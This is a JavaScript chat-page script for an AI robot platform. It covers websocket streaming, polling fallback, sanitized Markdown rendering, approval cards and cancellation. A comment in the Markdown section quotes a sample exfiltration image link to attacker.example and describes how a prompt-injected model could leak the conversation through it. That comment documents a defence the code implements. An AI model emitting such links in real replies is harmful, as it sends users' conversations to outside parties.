/* RobotLab chat page: live replies over the websocket, with polling as the fallback.
 *
 * The server sends each run event as JSON ({kind, run_id, seq, ts, cursor, ...}), alone, in a list
 * or as {events: [...]}. This script renders text.delta into the current reply, tool badges for
 * tool_call.started/completed, the status and run.failed errors. A network's turn adds step.started,
 * step.completed and step.failed for each robot that runs: a badge per robot, and the reply shows the
 * text of the robot that started last (the network's final reply once it completes). It reconnects
 * with backoff and asks for what it missed ({"type": "resume", "after": <the last cursor seen>}); the per-run seq
 * drops duplicates. While a run is unfinished it also polls the thread's results (JSON): every 3 s
 * as a safety net with a websocket, every 0.4 s with the stored events too without one, so the
 * page streams even where no websocket is served; a run no worker has picked up shows the poll's hint
 * (ROBOTLAB["WORKER_WAIT_HINT"]) instead of "queued". A run in flight has a Cancel button (POST
 * .../results/<id>/cancel/); a robot's question (hitl.requested) shows as a small form under the reply,
 * buttons for its choices or a text box, answered with POST .../results/<id>/answer/. A tool call waiting for
 * approval (a hitl.requested of type "approval") shows as a card: the tool, its arguments, the before/after of
 * what it changes, and Approve / Deny, sent over the websocket ({"type": "approval", ...}) when it is open, else
 * posted (a form to .../results/<id>/approval/ with the CSRF token). hitl.resolved
 * removes either and run.cancelled ends the reply with the text the run kept (its "reply"); a poll that finds
 * the run cancelled but its runner still stopping ("stopping") waits for that run.cancelled. A message sent while a
 * reply runs says what the robot's on_busy policy did with it (the POST's "notice": "queued behind the current
 * reply", ...); one refused ("reject") comes back to the box with the error; one steered into the running reply ends
 * with run.completed whose stop_reason is "steered", shown as "added to the reply above". Replies are
 * Markdown: each is rendered with markdown-it (raw HTML off, so model HTML shows as text) and the result goes through DOMPurify
 * before it reaches the page, re-rendered at most once a frame while it streams and at once when it ends (its
 * final state never shows before its final text); links open in a new tab
 * with rel="noopener noreferrer", code blocks are highlighted by highlight.js, and an image that is not a
 * data: URL is a link ("Image: <alt>"), never fetched by itself. Without those scripts a
 * reply is set as text. Everything else the model or the user wrote is set with textContent.
 */
(function () {
  "use strict";

  var root = document.getElementById("robotlab-chat");
  if (!root) { return; }
  var messages = document.getElementById("rl-messages");
  var scroller = document.getElementById("rl-scroll");
  var form = document.getElementById("rl-form");
  var input = document.getElementById("rl-input");
  var connection = document.getElementById("rl-connection");
  var resultsUrl = root.getAttribute("data-results-url");
  var postUrl = root.getAttribute("data-post-url");

  var runs = {};          // run_id -> {node, text, tools, status, error, seq, done, sequence}
  var current = null;     // the run_id events arrive for
  var cursor = parseInt(root.getAttribute("data-cursor") || "0", 10) || 0;  // the last stored event seen
  var socket = null;
  var socketOpen = false;
  var attempts = 0;
  var pollTimer = null;

  // -- Markdown ---------------------------------------------------------------------------
  var markdown = (window.markdownit && window.DOMPurify) ? window.markdownit({
    html: false, linkify: true,
    highlight: function (code, language) {
      if (!window.hljs || !language || !window.hljs.getLanguage(language)) { return ""; }
      try { return window.hljs.highlight(code, {language: language, ignoreIllegals: true}).value; } catch (e) { return ""; }
    }
  }) : null;
  // An image is shown only from a data: URL (inside the reply itself). Any other becomes a link the user may
  // follow: a page that fetched ![x](https://attacker.example/p.png?leak=...) by itself would let a
  // prompt-injected model send the conversation out. The page's Content-Security-Policy blocks such fetches too.
  function inlineImage(src) { return /^data:image\//i.test(String(src || "")); }
  if (markdown) {
    var renderImage = markdown.renderer.rules.image;
    markdown.renderer.rules.image = function (tokens, index, options, env, self) {
      var token = tokens[index];
      var src = token.attrGet("src") || "";
      if (inlineImage(src)) { return renderImage(tokens, index, options, env, self); }
      var alt = self.renderInlineAsText(token.children || [], options, env);
      return "<a class=\"rl-remote-image\" href=\"" + markdown.utils.escapeHtml(src) + "\">" +
        markdown.utils.escapeHtml("Image: " + (alt || src)) + "</a>";
    };
    window.DOMPurify.addHook("afterSanitizeAttributes", function (node) {
      if (node.tagName === "A") { node.setAttribute("target", "_blank"); node.setAttribute("rel", "noopener noreferrer"); }
      if (node.tagName === "IMG" && !inlineImage(node.getAttribute("src"))) {
        node.removeAttribute("src");
        node.removeAttribute("srcset");
      }
    });
  }

  function render(node, raw) {
    if (markdown) {
      node.innerHTML = window.DOMPurify.sanitize(markdown.render(raw).trim());
      node.classList.add("rl-md");
    } else {
      node.textContent = raw;
    }
  }

  function paintSoon(entry) {
    if (entry.painting) { return; }
    entry.painting = true;
    var paint = function () { if (entry.painting) { paintNow(entry); } };
    if (window.requestAnimationFrame && document.visibilityState === "visible") { window.requestAnimationFrame(paint); }
    else { setTimeout(paint, 30); }
  }

  // A reply that ends is painted at once: its final state (completed, cancelled, failed) never shows before its
  // final text, which the next frame would otherwise bring.
  function paintNow(entry) { entry.painting = false; render(entry.text, entry.raw); }

  function setText(entry, raw) { entry.raw = raw; paintSoon(entry); }
  function appendText(entry, more) { entry.raw = (entry.raw || "") + more; paintSoon(entry); }

  function make(tag, className, text) {
    var node = document.createElement(tag);
    if (className) { node.className = className; }
    if (text !== undefined && text !== null) { node.textContent = String(text); }
    return node;
  }

  function nearBottom() {
    return scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight < 80;
  }

  function keepScrolled(fn) {
    var stick = nearBottom();
    fn();
    if (stick) { scroller.scrollTop = scroller.scrollHeight; }
  }

  function setConnection(text) { connection.textContent = text; }

  function csrfToken() {
    var field = form.querySelector("input[name=csrfmiddlewaretoken]");
    if (field && field.value) { return field.value; }
    var match = document.cookie.match(/(?:^|;\s*)csrftoken=([^;]+)/);
    return match ? decodeURIComponent(match[1]) : "";
  }

  // A reply element: the one rendered with the page for this run, or a new one at the end.
  function reply(runId, create) {
    if (runs[runId]) { return runs[runId]; }
    var node = null;
    var rendered = messages.querySelectorAll(".rl-message.assistant");
    for (var i = 0; i < rendered.length; i++) {
      if (rendered[i].getAttribute("data-run-id") === runId) { node = rendered[i]; }
    }
    if (!node) {
      if (!create) { return null; }
      node = make("div", "rl-message assistant");
      node.setAttribute("data-run-id", runId);
      keepScrolled(function () { messages.appendChild(node); });
    }
    var part = function (className) {
      var found = node.querySelector("." + className);
      if (!found) {
        found = make("div", className);
        if (className === "rl-tools" || className === "rl-steps") { node.insertBefore(found, node.firstChild); }
        else { node.appendChild(found); }
      }
      return found;
    };
    var entry = {node: node, tools: part("rl-tools"), steps: part("rl-steps"), text: part("rl-text"),
                 status: part("rl-status"), error: part("rl-error"), seq: 0, done: true, streamed: false,
                 badges: {}, stepBadges: {}, sequence: 0, resultId: null, question: null, cancel: null,
                 raw: "", painting: false, asked: null};
    runs[runId] = entry;
    return entry;
  }

  // POST to .../results/<id>/<action>/ (answer, cancel); JSON back, or an error shown under the reply.
  function control(entry, action, fields) {
    if (!entry.resultId) { return Promise.resolve(null); }
    var body = new FormData();  // never empty: Django rejects a multipart body without a part
    body.append("csrfmiddlewaretoken", csrfToken());
    Object.keys(fields || {}).forEach(function (key) { body.append(key, fields[key]); });
    return fetch(resultsUrl + entry.resultId + "/" + action + "/", {
      method: "POST", body: body, credentials: "same-origin",
      headers: {Accept: "application/json", "X-CSRFToken": csrfToken()}
    }).then(function (response) {
      return response.json().catch(function () { return {error: "HTTP " + response.status}; });
    }).then(function (data) {
      if (data && data.error) { entry.error.textContent = String(data.error); }
      return data;
    }).catch(function () { entry.error.textContent = "Could not reach the server; try again."; return null; });
  }

  function cancelButton(entry) {
    if (entry.cancel) { return; }
    entry.cancel = make("button", "rl-cancel", "Cancel");
    entry.cancel.type = "button";
    entry.cancel.addEventListener("click", function () {
      entry.cancel.disabled = true;
      control(entry, "cancel", {}).then(function (data) {
        // the run ends at its run.cancelled, which carries the text it keeps (it may stream a little more first)
        if (data && data.result) { if (!entry.done) { entry.status.textContent = "cancelling…"; } }
        else if (entry.cancel) { entry.cancel.disabled = false; }
      });
    });
    entry.node.appendChild(entry.cancel);
  }

  function dropQuestion(entry) {
    if (entry.question) { entry.question.remove(); entry.question = null; }
  }

  // What the model sent, as text: a string as it is, anything else as JSON.
  function shown(value) {
    if (value === null || value === undefined) { return "—"; }
    if (typeof value === "string") { return value; }
    if (typeof value === "object" && !Array.isArray(value) && "str" in value) { return String(value.str) + " (" + String(value.pk) + ")"; }
    return JSON.stringify(value);
  }

  function hidden(box, name, value) {
    var field = make("input");
    field.type = "hidden";
    field.name = name;
    field.value = value;
    box.appendChild(field);
  }

  var deciding = null;  // the card whose decision went over the websocket: {entry, box}

  function enable(box, on) {
    Array.prototype.forEach.call(box.querySelectorAll("button"), function (node) { node.disabled = !on; });
  }

  // A tool call waiting for approval: the tool, its arguments, the before/after of its changes, Approve / Deny.
  // A real form (POST .../approval/, CSRF token, the request id), sent over the websocket when it is open.
  function approvalCard(entry, question) {
    var box = make("form", "rl-question rl-approval");
    box.method = "post";
    if (entry.resultId) { box.action = resultsUrl + entry.resultId + "/approval/"; }
    hidden(box, "csrfmiddlewaretoken", csrfToken());
    hidden(box, "request_id", String(question.request_id || ""));
    var head = make("div", "rl-approval-head", "Approve ");
    head.appendChild(make("code", "rl-approval-tool", question.tool || "a tool"));
    head.appendChild(document.createTextNode("?"));
    box.appendChild(head);
    var args = question.arguments && typeof question.arguments === "object" ? question.arguments : {};
    var list = make("dl", "rl-approval-arguments");
    Object.keys(args).forEach(function (name) {
      list.appendChild(make("dt", "", name));
      list.appendChild(make("dd", "", shown(args[name])));
    });
    if (list.childNodes.length) { box.appendChild(list); }
    var changes = question.details && Array.isArray(question.details.changes) ? question.details.changes : [];
    if (changes.length) {
      var table = make("table", "rl-approval-changes");
      var headRow = make("tr");
      ["Field", "Before", "After"].forEach(function (title) { headRow.appendChild(make("th", "", title)); });
      table.appendChild(make("thead")).appendChild(headRow);
      var body = table.appendChild(make("tbody"));
      changes.forEach(function (change) {
        var row = make("tr", "rl-approval-change");
        row.appendChild(make("td", "rl-field", String(change.field)));
        row.appendChild(make("td", "rl-before", shown(change.before)));
        row.appendChild(make("td", "rl-after", shown(change.after)));
        body.appendChild(row);
      });
      box.appendChild(table);
    }
    var decide = function (decision) {
      enable(box, false);
      entry.error.textContent = "";
      if (socketOpen && socket) {
        deciding = {entry: entry, box: box};
        socket.send(JSON.stringify({type: "approval", result_id: entry.resultId, request_id: question.request_id,
                                    decision: decision}));
        return;
      }
      control(entry, "approval", {decision: decision, request_id: String(question.request_id || "")}).then(function (data) {
        if (data && data.result) { dropQuestion(entry); entry.status.textContent = "thinking…"; }
        else { enable(box, true); }
      });
    };
    [["approve", "Approve"], ["deny", "Deny"]].forEach(function (choice) {
      var button = make("button", "rl-" + choice[0], choice[1]);
      button.type = "submit";
      button.name = "decision";
      button.value = choice[0];
      button.addEventListener("click", function (event) { event.preventDefault(); decide(choice[0]); });
      box.appendChild(button);
    });
    box.addEventListener("submit", function (event) { event.preventDefault(); });
    entry.question = box;
    entry.node.appendChild(box);
    entry.status.textContent = "waiting for your approval";
  }

  // The robot's question as a small form: a button per choice, else a text box and Send.
  function ask(entry, question) {
    dropQuestion(entry);
    if (question.type === "approval") { approvalCard(entry, question); return; }
    var box = make("form", "rl-question");
    box.appendChild(make("div", "rl-question-text", question.question || ""));
    var submit = function (text) {
      Array.prototype.forEach.call(box.querySelectorAll("button, input"), function (node) { node.disabled = true; });
      control(entry, "answer", {answer: text}).then(function (data) {
        if (data && data.result) { dropQuestion(entry); entry.status.textContent = "thinking…"; }
        else { Array.prototype.forEach.call(box.querySelectorAll("button, input"), function (node) { node.disabled = false; }); }
      });
    };
    var choices = Array.isArray(question.choices) ? question.choices : [];
    if (choices.length) {
      choices.forEach(function (choice) {
        var button = make("button", "rl-choice", choice);
        button.type = "button";
        button.addEventListener("click", function () { submit(String(choice)); });
        box.appendChild(button);
      });
    } else {
      var field = make("input", "rl-answer");
      field.type = "text";
      field.name = "answer";
      if (question["default"]) { field.placeholder = String(question["default"]); }
      box.appendChild(field);
      box.appendChild(make("button", "rl-answer-send", "Send"));
      box.addEventListener("submit", function (event) { event.preventDefault(); submit(field.value); });
    }
    entry.question = box;
    entry.node.appendChild(box);
    entry.status.textContent = "waiting for your answer";
  }

  function track(runId, sequence, resultId) {
    var entry = reply(runId, true);
    entry.done = false;
    if (resultId) { entry.resultId = resultId; }
    cancelButton(entry);
    if (sequence) { entry.sequence = sequence; }
    if (!entry.status.textContent) { entry.status.textContent = "queued"; }
    schedulePoll();
    return entry;
  }

  function badge(entry, id, name, state) {
    var node = entry.badges[id];
    if (!node) {
      node = make("span", "rl-tool-badge", name || "tool");
      entry.badges[id] = node;
      keepScrolled(function () { entry.tools.appendChild(node); });
    }
    node.className = "rl-tool-badge " + state;
  }

  // A network's robot: one badge per robot, running, done or error.
  function stepBadge(entry, name, state) {
    var node = entry.stepBadges[name];
    if (!node) {
      node = make("span", "rl-step-badge", name);
      entry.stepBadges[name] = node;
      keepScrolled(function () { entry.steps.appendChild(node); });
    }
    node.className = "rl-step-badge " + state;
  }

  var STEERED_NOTE = "added to the reply above";

  // A message the running reply took into its conversation: no reply of its own.
  function steered(entry) {
    finish(entry, "completed", "");
    entry.status.textContent = STEERED_NOTE;
    entry.node.classList.add("steered");
  }

  function finish(entry, status, error) {
    entry.done = true;
    if (entry.painting) { paintNow(entry); }
    dropQuestion(entry);
    entry.node.classList.remove("waiting");
    entry.node.classList.remove("busy");
    if (entry.cancel) { entry.cancel.remove(); entry.cancel = null; }
    entry.status.textContent = status === "completed" ? "" : status;
    entry.node.classList.toggle("failed", status === "failed");
    entry.node.classList.toggle("cancelled", status === "cancelled");
    if (error) { entry.error.textContent = error; }
  }

  function handle(event) {
    if (!event || typeof event !== "object" || !event.run_id) { return; }
    if (typeof event.cursor === "number" && event.cursor > cursor) { cursor = event.cursor; }
    var entry = runs[event.run_id] || reply(event.run_id, false);
    if (!entry) {  // a run started elsewhere (another tab), or here before its POST answered
      var asked = event.kind === "run.started" && event.message ? addUserMessage(String(event.message), null) : null;
      entry = track(event.run_id, 0);
      entry.asked = asked;
    }
    // a finished run (history, or already completed by polling); its run.cancelled still sets the text it kept
    var kept = event.kind === "run.cancelled" && !event.task && typeof event.reply === "string";
    if (entry.done && !kept) { return; }
    if (typeof event.seq === "number") {
      // one order per task: a network's tasks may run on several workers, each numbering its own events
      var lane = event.task ? "task:" + event.task : "run";
      entry.lanes = entry.lanes || {};
      if (event.seq <= (entry.lanes[lane] || 0)) { return; }
      entry.lanes[lane] = event.seq;
      entry.seq = Math.max(entry.seq, event.seq);
    }
    current = event.run_id;
    keepScrolled(function () {
      switch (event.kind) {
        case "run.started":  // again after text: the run is executed anew (its worker was lost)
          if (entry.streamed) { setText(entry, ""); entry.streamed = false; }
          entry.done = false;
          entry.node.classList.remove("waiting");
          entry.node.classList.remove("busy");
          entry.status.textContent = "thinking…";
          break;
        case "text.delta":
          if (event.task && entry.task && event.task !== entry.task) { break; }  // a parallel robot's text
          if (!entry.streamed) { entry.raw = ""; entry.streamed = true; }
          appendText(entry, String(event.text || ""));
          entry.status.textContent = "typing…";
          break;
        case "tool_call.started":
          badge(entry, event.id || event.name, event.name, "running");
          entry.status.textContent = "using " + (event.name || "a tool") + "…";
          break;
        case "tool_call.completed":
          badge(entry, event.id || event.name, event.name, event.is_error ? "error" : "done");
          entry.status.textContent = "thinking…";
          break;
        case "step.started":
          stepBadge(entry, String(event.robot || event.task || "robot"), "running");
          setText(entry, "");  // the reply shows the robot that started last
          entry.streamed = false;
          entry.task = event.task || null;
          entry.status.textContent = String(event.task || event.robot || "a robot") + " is answering…";
          break;
        case "step.completed":
          stepBadge(entry, String(event.robot || event.task || "robot"), "done");
          entry.status.textContent = "thinking…";
          break;
        case "step.failed":
          stepBadge(entry, String(event.robot || event.task || "robot"), "error");
          break;
        case "run.completed":  // a network's final reply replaces the text of the robot shown last
          if (event.stop_reason === "steered") { steered(entry); break; }
          if ((!entry.streamed || entry.task) && event.reply) { setText(entry, String(event.reply)); }
          finish(entry, "completed", "");
          break;
        case "hitl.requested":
          ask(entry, event);
          break;
        case "hitl.resolved":
          dropQuestion(entry);
          entry.status.textContent = "thinking…";
          break;
        case "run.cancelled":  // the run's (not a network task's): the page ends with exactly the text it kept
          if (event.task) { break; }
          if (kept) { setText(entry, event.reply); }
          finish(entry, "cancelled", "");
          break;
        case "run.failed":
          finish(entry, "failed", (event.error_type ? event.error_type + ": " : "") + (event.error || "the run failed"));
          break;
        default:
          break;
      }
    });
  }

  // -- websocket ---------------------------------------------------------------------------
  function connect() {
    if (!window.WebSocket) { setConnection("polling"); return; }
    var scheme = window.location.protocol === "https:" ? "wss://" : "ws://";
    try {
      socket = new WebSocket(scheme + window.location.host + root.getAttribute("data-ws-path"));
    } catch (error) {
      reconnect();
      return;
    }
    socket.onopen = function () {
      socketOpen = true;
      attempts = 0;
      setConnection("live");
      socket.send(JSON.stringify({type: "resume", after: cursor}));
    };
    socket.onmessage = function (message) {
      var data;
      try { data = JSON.parse(message.data); } catch (error) { return; }
      if (Array.isArray(data)) { data.forEach(handle); } else if (data && Array.isArray(data.events)) {
        data.events.forEach(handle);
      } else if (data && data.type === "replayed") {
        if (typeof data.cursor === "number" && data.cursor > cursor) { cursor = data.cursor; }
      } else if (data && data.type === "error") {
        if (deciding) {  // the decision was refused (decided elsewhere meanwhile, not allowed): say so on the card
          deciding.entry.error.textContent = String(data.error || "error");
          enable(deciding.box, true);
          deciding = null;
        } else { setConnection("live (server: " + String(data.error || "error") + ")"); }
      } else if (data && data.type === "decided") {
        if (deciding) { dropQuestion(deciding.entry); deciding.entry.status.textContent = "thinking…"; deciding = null; }
      } else { handle(data); }
    };
    socket.onclose = function () {
      socketOpen = false;
      socket = null;
      reconnect();
    };
    socket.onerror = function () { /* onclose follows */ };
  }

  function reconnect() {
    attempts += 1;
    var delay = Math.min(30000, 500 * Math.pow(2, Math.min(attempts, 6))) + Math.floor(Math.random() * 250);
    setConnection(attempts > 2 ? "offline: updating by polling" : "reconnecting…");
    schedulePoll();
    window.setTimeout(connect, delay);
  }

  // -- polling (the fallback, and a safety net while a run is unfinished) ------------------
  function unfinished() {
    var sequences = [];
    Object.keys(runs).forEach(function (runId) {
      if (!runs[runId].done) { sequences.push(runs[runId].sequence || 1); }
    });
    return sequences;
  }

  function schedulePoll() {
    if (pollTimer !== null || unfinished().length === 0) { return; }
    pollTimer = window.setTimeout(poll, socketOpen ? 3000 : 400);
  }

  function poll() {
    pollTimer = null;
    var sequences = unfinished();
    if (sequences.length === 0) { return; }
    var since = Math.min.apply(null, sequences);
    var url = resultsUrl + "?since=" + encodeURIComponent(since) + (socketOpen ? "" : "&after=" + cursor);
    fetch(url, {headers: {Accept: "application/json"}, credentials: "same-origin"})
      .then(function (response) { return response.ok ? response.json() : {results: []}; })
      .then(function (data) {
        (data.events || []).forEach(handle);  // without a websocket, the stored events stream the reply
        (data.results || []).forEach(applyResult);
      })
      .catch(function () { /* try again below */ })
      .then(schedulePoll);
  }

  function applyResult(result) {
    var entry = runs[result.run_id];
    if (!entry || entry.done) { return; }
    entry.sequence = result.sequence_number;
    entry.resultId = result.id;
    if (result.stopping) {  // cancelled, its runner not stopped yet: its run.cancelled brings the text it keeps
      entry.status.textContent = "cancelling…";
      return;
    }
    if (result.status === "awaiting" && result.question && result.question.question && !entry.question) {
      ask(entry, result.question);
    }
    keepScrolled(function () {
      if (!result.is_finished) {
        if (result.hint && result.status === "queued" && !entry.streamed) {
          entry.status.textContent = String(result.hint);  // no worker has picked it up: say so, and how
          entry.node.classList.add("waiting");
        } else if (!entry.streamed && !socketOpen) { entry.status.textContent = result.status; }
        return;
      }
      if (result.stop_reason === "steered") { steered(entry); return; }
      if (result.reply || !entry.streamed) { setText(entry, result.reply || ""); }
      (result.tools || []).forEach(function (name, index) {
        if (Object.keys(entry.badges).length <= index) { badge(entry, "poll-" + index, name, "done"); }
      });
      finish(entry, result.status, result.error ? (result.error_type ? result.error_type + ": " : "") + result.error : "");
    });
  }

  // -- sending -----------------------------------------------------------------------------
  function addUserMessage(text, before) {
    var node = make("div", "rl-message user");
    node.appendChild(make("div", "rl-text", text));
    keepScrolled(function () {
      if (before) { messages.insertBefore(node, before); } else { messages.appendChild(node); }
    });
    return node;
  }

  function showError(text) {
    var node = make("div", "rl-message assistant failed");
    node.appendChild(make("div", "rl-error", text));
    keepScrolled(function () { messages.appendChild(node); });
  }

  form.addEventListener("submit", function (event) {
    event.preventDefault();
    var text = input.value.trim();
    if (!text) { return; }
    var body = new FormData(form);
    input.value = "";
    fetch(postUrl, {method: "POST", body: body, credentials: "same-origin",
                    headers: {Accept: "application/json", "X-CSRFToken": csrfToken()}})
      .then(function (response) {
        return response.json().catch(function () { return {error: "HTTP " + response.status}; });
      })
      .then(function (data) {
        if (!data.result) {  // refused (a rate limit, a bad file): the text comes back to the box to send again
          if (!input.value) { input.value = text; }
          showError(data.error || "The message was not accepted.");
          return;
        }
        var existing = runs[data.result.run_id];
        // the run's events may have come first (two messages sent quickly): its message shows once, and a
        // run they already ended stays ended
        if (!existing || !existing.asked) { addUserMessage(text, existing ? existing.node : null); }
        if (existing && existing.done) {
          existing.asked = true;
          existing.resultId = data.result.id;
          return;
        }
        var entry = track(data.result.run_id, data.result.sequence_number, data.result.id);
        entry.asked = true;
        current = data.result.run_id;
        if (data.result.is_finished) { applyResult(data.result); }
        else if (data.notice && !entry.streamed) {  // a reply was running: what the robot's on_busy did with this one
          entry.status.textContent = String(data.notice);
          entry.node.classList.add("busy");
        } else if (!entry.streamed && entry.status.textContent === "queued") { entry.status.textContent = data.result.status; }
      })
      .catch(function () {
        if (!input.value) { input.value = text; }
        showError("Could not send the message; check your connection.");
      });
  });

  input.addEventListener("keydown", function (event) {
    if (event.key === "Enter" && !event.shiftKey) {
      event.preventDefault();
      if (form.requestSubmit) { form.requestSubmit(); } else { form.dispatchEvent(new Event("submit", {cancelable: true})); }
    }
  });

  // -- start -------------------------------------------------------------------------------
  // the replies the server rendered as text become Markdown like the live ones
  Array.prototype.forEach.call(messages.querySelectorAll(".rl-message.assistant > .rl-text"), function (node) {
    render(node, node.textContent || "");
  });
  var pendingNode = document.getElementById("rl-pending");
  var pending = pendingNode ? JSON.parse(pendingNode.textContent) : [];
  pending.forEach(function (item) {
    var entry = track(item.run_id, item.sequence_number, item.id);
    if (item.question && item.question.question) { ask(entry, item.question); }
    current = item.run_id;
  });
  scroller.scrollTop = scroller.scrollHeight;
  connect();
}());
